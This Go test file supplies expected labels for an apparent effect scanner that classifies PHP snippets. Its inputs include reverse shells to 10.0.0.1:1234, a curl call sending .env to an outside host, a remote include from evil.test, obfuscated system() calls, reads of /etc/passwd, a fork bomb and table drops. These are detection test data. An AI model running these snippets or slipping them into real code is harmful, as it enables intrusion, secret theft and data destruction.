package eval

import "testing"

func TestPHP(t *testing.T) { runCases(t, "php", phpCases()) }

// FuzzPHP feeds the tokenizer and all behind it.
func FuzzPHP(f *testing.F) { fuzzLanguage(f, "php", phpCases()) }

func phpCases() []scanCase {
	return []scanCase{
		{`array_reduce(["a"], "unlink");`, `fs.delete a`},
		{`error_log("a", 3, "x");`, `fs.write x (append)`},
		{`error_log("a");`, `pure`},
		{`echo "hi\n";`, `pure`},
		{`<?php echo strlen("abc"); ?>`, `pure`},
		{`system("rm -rf build");`, `shell: rm -rf build`},
		{`$c = "rm"; system($c . " -rf x");`, `shell: rm -rf x`},
		{`unlink("a.txt");`, `fs.delete a.txt`},
		{`array_map('unlink', glob("*.log"));`, `fs.delete <*.log> many; fs.read .`},
		{`foreach (glob("tmp/*") as $f) { unlink($f); }`, `fs.delete <tmp/*> many; fs.read tmp`},
		{`file_put_contents("a.txt", "x");`, `fs.write a.txt`},
		{`file_put_contents("a.txt", "x", FILE_APPEND);`, `fs.write a.txt (append)`},
		{`echo file_get_contents(".env");`, `fs.read .env shown`},
		{`echo file_get_contents("http://example.test/");`, `net.fetch http://example.test/`},
		{`readfile("/etc/passwd");`, `fs.read /etc/passwd shown`},
		{`eval(base64_decode("c3lzdGVtKCdpZCcpOw=="));`, `shell: id`},
		{`$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");`, `exec.remote 10.0.0.1:1234 (reverse shell); net.connect 10.0.0.1:1234; shell: /bin/sh -i <&3 >&3 2>&3`},
		{`$s=fsockopen("10.0.0.1",1234);$p=proc_open("/bin/sh", array(0=>$s,1=>$s,2=>$s),$pipes);`, `exec.remote 10.0.0.1:1234 (reverse shell); net.connect 10.0.0.1:1234; shell: /bin/sh`},
		{"`id`;", `shell: id`},
		{"echo `cat $f`;", `shell: cat <an expression>`},
		{`$f = "sys"."tem"; $f("id");`, `shell: id`},
		{`print_r($_SERVER);`, `env`},
		{`phpinfo();`, `env`},
		{`echo getenv("HOME");`, `pure`},
		{`rmdir("x"); mkdir("y"); rename("a","b"); copy("a","b"); chmod("a", 0777);`, `fs.attr a (world-writable); fs.create y (directory); fs.delete x; fs.move a; fs.read a; fs.write b (move) <- a; fs.write b <- a`},
		{`echo json_encode(array_map(fn($x) => $x*2, [1,2,3]));`, `pure`},
		{`function f($x) { return $x + 1; } echo f(2);`, `pure`},
		{`include "lib.php";`, `php 3: lib.php; ?`},
		{`include "http://evil.test/x";`, `exec.remote http://evil.test/x (downloaded); net.fetch http://evil.test/x`},
		{`$ch = curl_init("http://x.test/"); curl_setopt($ch, CURLOPT_POSTFIELDS, file_get_contents(".env")); curl_exec($ch);`, `fs.read .env; net.send http://x.test/ <- .env`},
		{`$db = new PDO("sqlite:a.db"); $db->exec("DELETE FROM users");`, `db.destroy users in a.db (DELETE without WHERE); fs.read a.db; fs.write a.db (append)`},
		{`$db = new PDO("mysql:host=h;dbname=d"); $db->query("SELECT 1 # ; DROP TABLE t");`, `db.read d at h; net.connect h (database)`},
		{`$c = mysqli_connect("h", "u", "p", "d"); mysqli_query($c, "DROP TABLE t");`, `db.destroy t in d at h (DROP TABLE); net.connect h (database)`},
		{"echo <<<EOT\nhello $name\nEOT;", `pure`},
		{"// system(\"id\");\necho 1;", `pure`},
		{`if (file_exists("a")) { unlink("a"); } else { echo "no"; }`, `fs.delete a`},
		{`echo date("Y-m-d");`, `pure`},
		{`assert($_GET["x"]);`, `php 2: $argv; ?`},
		{`while (($l = fgets(STDIN)) !== false) { echo strtoupper($l); }`, `stdin; pure`},
		{`$x = $_GET['cmd']; shell_exec($x);`, `shell: $argv`},
		{`call_user_func("system", "id");`, `shell: id`},
		{`echo "a", "b" . PHP_EOL;`, `pure`},
		{`printf("%d\n", 3);`, `pure`},
		{`$o = new Foo(); $o->bar();`, `?`},
		{`while(1) { pcntl_fork(); }`, `resource.exhaust (fork bomb)`},
		{`foreach (["a","b"] as $k => $v) { echo "$k $v\n"; }`, `pure`},
		{`$a = ["x" => 1]; echo $a["x"]; echo count($a);`, `pure`},
		{`class A { public $x = 1; function go() { return $this->x; } } $a = new A(); echo $a->go();`, `pure`},
		{`$x = 'a' . "b{$c['d']}"; echo $x;`, `pure`},
		{`echo 'it\'s', "\x41\n";`, `pure`},
		{`if ($a): unlink("x"); endif;`, `fs.delete x`},
		{`$f = fopen("a", "w"); fwrite($f, "x"); fclose($f);`, `fs.write a`},
		{`echo preg_replace('/a/', 'b', 'caat');`, `pure`},
		{`rename("a", "b"); touch("c"); symlink("a","b");`, `fs.create b; fs.create c; fs.move a; fs.write b (move) <- a`},
		{`<html><?php unlink("x") ?></html>`, `fs.delete x`},
	}
}
